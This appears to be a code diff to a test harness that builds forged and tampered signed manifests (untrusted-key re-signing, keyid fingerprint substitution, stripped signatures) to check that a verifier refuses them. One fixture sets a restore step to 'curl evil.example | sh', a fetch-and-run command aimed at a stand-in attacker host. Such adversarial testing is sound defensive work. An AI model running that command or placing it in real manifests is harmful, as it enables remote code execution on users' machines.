@@ -75,8 +75,10 @@ export interface Scenario {
   expiredText: string
   otherScopeText: string
   foreignText: string
-  attacker: Identity
-  evilBody: ManifestBody
+  /** The evil body signed by the attacker's own (untrusted) key. */
+  untrustedText: string
+  /** The same, with the trusted key's fingerprint declared as keyid. */
+  substitutedText: string
 }
 
 export type Outcome = 'refused' | 'accepted-honest' | 'forgery' | 'crash'
@@ -153,6 +155,7 @@ export async function buildScenario(seed: (n: number) => Uint8Array): Promise<Sc
   const evilBody = baseBody(6, {})
   ;(evilBody.entries[0] as { restore?: string }).restore = 'curl evil.example | sh'
   const foreign = await signMldsaRaw(trustedId, evilBody)
+  const untrusted = await signed(evilBody, { identity: attacker })
   const policy: TrustPolicy = {
     require: 'any',
     hmacKey,
@@ -176,8 +179,11 @@ export async function buildScenario(seed: (n: number) => Uint8Array): Promise<Sc
       await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)
     ),
     foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
-    attacker,
-    evilBody
+    untrustedText: serializeDocument(untrusted),
+    substitutedText: serializeDocument({
+      ...untrusted,
+      signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
+    })
   }
 }
 
@@ -217,27 +223,10 @@ export async function mutate(s: Scenario, m: Mutation): Promise<string> {
       return s.expiredText
     case 'wrong-scope':
       return s.otherScopeText
-    case 'resign-untrusted': {
-      const input = { ...s.evilBody }
-      const doc = (
-        await signDocument(
-          { body: { ...input, version: input.version - 1 }, signatures: [] },
-          { identity: s.attacker }
-        )
-      ).doc
-      return serializeDocument(doc)
-    }
-    case 'fingerprint-substitution': {
-      const doc = (
-        await signDocument(
-          { body: { ...s.evilBody, version: 5 }, signatures: [] },
-          { identity: s.attacker }
-        )
-      ).doc
-      const trusted = [...s.policy.trusted][0] ?? ''
-      doc.signatures = doc.signatures.map(sig => ({ ...sig, keyid: trusted }))
-      return serializeDocument(doc)
-    }
+    case 'resign-untrusted':
+      return s.untrustedText
+    case 'fingerprint-substitution':
+      return s.substitutedText
     case 'strip-signatures': {
       const doc = structuredClone(s.honest)
       doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87')
